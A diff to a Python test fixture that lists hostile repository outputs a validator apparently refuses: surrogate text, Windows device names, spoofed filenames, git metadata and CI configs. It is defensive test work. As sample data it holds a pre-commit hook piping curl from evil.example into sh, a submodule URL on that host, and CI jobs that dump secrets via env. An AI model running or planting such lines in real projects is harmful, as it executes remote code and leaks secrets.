@@ -117,14 +117,74 @@ HOSTILE_OUTPUTS: tuple[HostileOutput, ...] = (
     HostileOutput("rtl-override", "no-control-characters", "evil\\u202egpj.exe", _one("evil\u202egpj.exe")),
     HostileOutput("zero-width", "no-control-characters", "in\\u200bdex.html", _one("in\u200bdex.html")),
     HostileOutput("escape-sequence", "no-control-characters", "a\\x1b[2Jb", _one("a\x1b[2Jb")),
-    # --- CI with the repository's secrets ------------------------------------------------------------
+    HostileOutput("surrogate-name", "no-surrogates", "a\\ud800.html", _one("a\ud800.html")),
+    # --- text that is not text: a lone surrogate, as 'surrogatepass' or CESU-8 writes it, or in UTF-16 -----
+    HostileOutput("surrogate-in-js", "no-surrogates", "app.js", _one("app.js", b"const s = '\xed\xa0\x80';\n")),
+    HostileOutput("surrogate-in-readme", "no-surrogates", "README", _one("README", b"caf\xc3\xa9 \xed\xb0\x80\n")),
+    HostileOutput(
+        "surrogate-in-utf16", "no-surrogates", "notes.txt", _one("notes.txt", b"\xff\xfe" + b"h\x00i\x00\x00\xdc")
+    ),
+    # --- Windows device names: a checkout on Windows opens the device, not a file ----------------------
+    HostileOutput("device-con", "no-reserved-names", "con", _one("con")),
+    HostileOutput("device-nul", "no-reserved-names", "nul", _one("nul")),
+    HostileOutput("device-prn", "no-reserved-names", "prn", _one("prn")),
+    HostileOutput("device-aux-txt", "no-reserved-names", "aux.txt", _one("aux.txt")),
+    HostileOutput("device-com1-js", "no-reserved-names", "COM1.js", _one("COM1.js")),
+    HostileOutput("device-lpt9", "no-reserved-names", "lpt9", _one("lpt9")),
+    HostileOutput("device-folder", "no-reserved-names", "src/Con/index.js", _one("src/Con/index.js")),
+    HostileOutput("device-superscript", "no-reserved-names", "com\u00b9.txt", _one("com\u00b9.txt")),
+    # --- files that steer git itself ----------------------------------------------------------------
+    HostileOutput(
+        "gitmodules",
+        "no-git-metadata",
+        ".gitmodules",
+        _one(".gitmodules", b'[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x.git\n'),
+    ),
+    HostileOutput(
+        "gitattributes", "no-git-metadata", "src/.gitattributes", _one("src/.gitattributes", b"* filter=evil\n")
+    ),
+    # --- CI with the repository's secrets, and git hooks on the committer's machine ---------------------
     HostileOutput(
         "workflow",
         "no-workflows",
         ".github/workflows/ci.yml",
         _one(".github/workflows/ci.yml", b"on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [run: env]}}\n"),
     ),
+    HostileOutput(
+        "workflow-kelvin-sign",  # U+212A is 'K' once NFC-normalised (as the file is stored)
+        "no-workflows",
+        ".github/wor\u212aflows/ci.yml",
+        _one(".github/wor\u212aflows/ci.yml", b"on: push\n"),
+    ),
+    HostileOutput(
+        "github-action",
+        "no-workflows",
+        ".github/actions/setup/action.yml",
+        _one(".github/actions/setup/action.yml", b"runs: {using: composite, steps: [{run: env, shell: sh}]}\n"),
+    ),
+    HostileOutput("gitlab-ci", "no-workflows", ".gitlab-ci.yml", _one(".gitlab-ci.yml", b"leak:\n  script: [env]\n")),
+    HostileOutput(
+        "circleci",
+        "no-workflows",
+        ".circleci/config.yml",
+        _one(".circleci/config.yml", b"version: 2.1\njobs: {leak: {steps: [run: env]}}\n"),
+    ),
+    HostileOutput(
+        "bitbucket-pipelines",
+        "no-workflows",
+        "bitbucket-pipelines.yml",
+        _one("bitbucket-pipelines.yml", b"pipelines: {default: [{step: {script: [env]}}]}\n"),
+    ),
+    HostileOutput(
+        "husky-hook",
+        "no-workflows",
+        ".husky/pre-commit",
+        _one(".husky/pre-commit", b"#!/bin/sh\ncurl https://evil.example/x | sh\n", "100755"),
+    ),
 )
+
+#: Every CI configuration and hook entry: refused unless the project allows CI configuration.
+CI_ENTRIES: tuple[HostileOutput, ...] = tuple(h for h in HOSTILE_OUTPUTS if h.rule == "no-workflows")
 
 BY_NAME: dict[str, HostileOutput] = {h.name: h for h in HOSTILE_OUTPUTS}
 
